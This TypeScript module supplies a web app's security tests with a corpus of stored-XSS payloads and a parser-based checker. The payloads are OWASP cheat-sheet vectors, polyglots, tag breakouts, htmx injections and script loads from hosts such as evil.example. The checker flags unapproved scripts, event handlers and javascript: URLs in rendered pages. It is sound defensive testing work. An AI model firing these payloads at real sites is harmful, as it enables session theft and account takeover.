/**
 * A stored-XSS corpus and an HTML checker that uses a real HTML parser
 * (HTMLRewriter, the runtime's lol-html) instead of regexes.
 *
 * Payloads: OWASP XSS filter-evasion cheat-sheet examples, polyglots,
 * `</script>`-style breakouts, attribute breakers, encodings and tricks aimed at
 * where our pages put user text (text nodes, <pre>/<code>, <textarea>, <title>,
 * attribute values), each also wrapped in breakout prefixes.
 */
const BASE: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<script src=//evil.example/x.js></script>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC= onmouseover="alert(\'xxs\')">',
  '<IMG onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
  '<SCRIPT SRC=//xss.rocks/.j>',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '<iframe src=http://xss.rocks/scriptlet.html <',
  "\\\";alert('XSS');//",
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<IMG LOWSRC="javascript:alert(\'XSS\')">',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<IMG SRC=\'vbscript:msgbox("XSS")\'>',
  "<svg/onload=alert('XSS')>",
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  "<BODY ONLOAD=alert('XSS')>",
  '<BGSOUND SRC="javascript:alert(\'XSS\');">',
  '<BR SIZE="&{alert(\'XSS\')}">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
  '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="jAvAsCrIpT&colon;alert(1)">click</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)">',
  '<audio src=x onerror=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
  '<x contenteditable onblur=alert(1)>lose focus!',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<listing><img src=x onerror=alert(1)></listing>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '" autofocus onfocus="alert(1)" x="',
  '` onmouseover=alert(1) x=`',
  '"><svg onload=alert(1)>',
  '</textarea><script>alert(1)</script>',
  '</pre><script>alert(1)</script><pre>',
  '</code></pre><img src=x onerror=alert(1)>',
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</SCRIPT ><script>alert(1)</script>',
  '</script\t\n><img src=x onerror=alert(1)>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '＜script＞alert(1)＜/script＞',
  '<script>alert(1)<\\/script>',
  'javascript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
  '\'">><marquee><img src=x onerror=confirm(1)></marquee>"></plaintext\\></|\\><plaintext/onmouseover=prompt(1)><script>prompt(1)</script>@gmail.com<isindex formaction=javascript:alert(/XSS/) type=submit>\'-->"></script><script>alert(1)</script>"><img/id="confirm&lpar;1)"/alt="/"src="/"onerror=eval(id&%23x29;>\'"><img src="http://i.imgur.com/P8mL8.jpg">',
  '" onclick=alert(1)//<button \' onclick=alert(1)//> */ alert(1)//',
  "<svg><style>{font-family:'<iframe/onload=confirm(1)>'",
  '-->\'"/></sCript><deTailS open x=">" ontoGgle=(co\\u006efirm)``>',
  "{{constructor.constructor('alert(1)')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection payload, literally.
  '${alert(1)}',
  '<div hx-get="/account" hx-trigger="load" hx-target="body">htmx injection</div>',
  '<div hx-on:click="alert(1)">htmx on</div>',
  '<a hx-post="/signout" hx-trigger="load">x</a>',
  '<hx-partial hx-target="body"><script>alert(1)</script></hx-partial>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<isindex action="javascript:alert(1)" type=image>',
  '<form><button formaction=javascript&colon;alert(1)>CLICKME',
  '<input type="hidden" accesskey="X" onclick="alert(1)">',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<base href="//evil.example/">',
  '<link rel=import href="//evil.example/x.html">',
  '<style>*{background:url("javascript:alert(1)")}</style>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName="onmouseover" to="alert(1)"/>',
  '<image src=x onerror=alert(1)>',
  '\u2028<script>alert(1)</script>\u2029',
  '\u202e<script>alert(1)</script>',
  'a\u0000<script>alert(1)</script>',
];

const WRAPPERS: Array<(p: string) => string> = [(p) => p, (p) => `">${p}`, (p) => `'>${p}`, (p) => `</textarea>${p}`];

/** What a display-text schema keeps of a payload (shared/text.ts): one line without control or bidi characters, within `max`. */
export const asDisplayText = (payload: string, max: number) =>
  payload
    .replace(/[\p{Cc}\u202A-\u202E\u2066-\u2069]/gu, ' ')
    .trim()
    .slice(0, max)
    .trim() || 'x';

/** At least 200 distinct payloads. */
export function xssPayloads(): string[] {
  const out = new Set<string>();
  for (const wrap of WRAPPERS) for (const p of BASE) out.add(wrap(p));
  return [...out];
}

/** Scripts the pages may load (with the per-request nonce). */
const ALLOWED_SCRIPTS =
  /^\/(?:vendor\/htmx\.min\.js|vendor\/uPlot\.iife\.min\.js|app\.js|codebin\.js|lexicon\.js|melos\.js|oracle-crypto\.js|oracle\.js|insightdash\.js)\?v=[\w.]+$/;
const URL_ATTRIBUTES = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'background', 'lowsrc', 'dynsrc', 'poster', 'srcdoc'];
const FORBIDDEN_TAGS = ['iframe', 'object', 'embed', 'base', 'frame', 'frameset', 'applet', 'noscript', 'template', 'xmp', 'plaintext', 'listing', 'isindex'];

/**
 * Parses the HTML and lists every way it could run script: a <script> that is not
 * one of ours, an event-handler attribute, a javascript:/vbscript:/data: URL, htmx
 * attributes that arrived with user content, or an element that embeds documents.
 */
export async function scriptVectors(html: string, label: string): Promise<string[]> {
  const problems: string[] = [];
  const rewriter = new HTMLRewriter().on('*', {
    element(el) {
      const tag = el.tagName.toLowerCase();
      if (tag === 'script') {
        const src = el.getAttribute('src') ?? '';
        // A data block (a chart's JSON) is never run; what is in it cannot end it early, or the next element would be flagged here.
        const data = el.getAttribute('type') === 'application/json' && src === '';
        if (!data && (!ALLOWED_SCRIPTS.test(src) || !el.getAttribute('nonce'))) problems.push(`${label}: <script src="${src}">`);
      }
      if (FORBIDDEN_TAGS.includes(tag)) problems.push(`${label}: <${tag}>`);
      if (tag === 'meta' && el.getAttribute('http-equiv')) problems.push(`${label}: <meta http-equiv>`);
      for (const [name, value] of el.attributes as Iterable<[string, string]>) {
        const n = name.toLowerCase();
        if (n.startsWith('on')) problems.push(`${label}: <${tag} ${n}=…>`);
        if (URL_ATTRIBUTES.includes(n)) {
          // Browsers ignore leading controls/spaces and tabs/newlines inside the scheme.
          const scheme = decodeEntities(value)
            .replace(/[\u0000-\u0020]/g, '')
            .toLowerCase();
          if (/^(?:javascript|vbscript|data):/.test(scheme)) problems.push(`${label}: <${tag} ${n}="${value.slice(0, 40)}">`);
        }
        if (/^(?:hx-|data-hx-)(?:on|get|post|put|patch|delete|trigger|vals|headers)/.test(n) && !ourHtmx(tag, n, decodeEntities(value))) {
          problems.push(`${label}: <${tag} ${n}="${value.slice(0, 40)}">`);
        }
      }
    },
  });
  await rewriter.transform(new Response(html)).text();
  return problems;
}

const NAMED: Record<string, string> = {
  colon: ':',
  tab: '\t',
  newline: '\n',
  amp: '&',
  lt: '<',
  gt: '>',
  quot: '"',
  apos: "'",
  lpar: '(',
  rpar: ')',
  sol: '/',
};

/** HTMLRewriter hands attribute values over undecoded; browsers decode them before use. */
function decodeEntities(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_, h: string) => String.fromCodePoint(Number.parseInt(h, 16) % 0x110000))
    .replace(/&#(\d+);?/g, (_, d: string) => String.fromCodePoint(Number(d) % 0x110000))
    .replace(/&([a-z]+);/gi, (m, name: string) => NAMED[name.toLowerCase()] ?? m);
}

/** htmx attributes our own templates emit (they never contain user text). */
function ourHtmx(tag: string, name: string, value: string): boolean {
  if (name === 'hx-headers:inherited') return tag === 'body' && /^\{"X-CSRF-Token":"[A-Za-z0-9_-]*"\}$/.test(value);
  // Paths, with at most a query of plain words (Lexicon's `/lexicon?queue=new&after=17.42`).
  if (name === 'hx-post' || name === 'hx-get') return /^\/[\w/.-]*(?:\?[\w.=&-]*)?$/.test(value);
  if (name === 'hx-trigger')
    return /^(?:load|revealed|submit|click|change|every \d+m?s|input changed delay:\d+ms, search|input delay:\d+ms from:#[\w-]+)$/.test(value);
  return false;
}
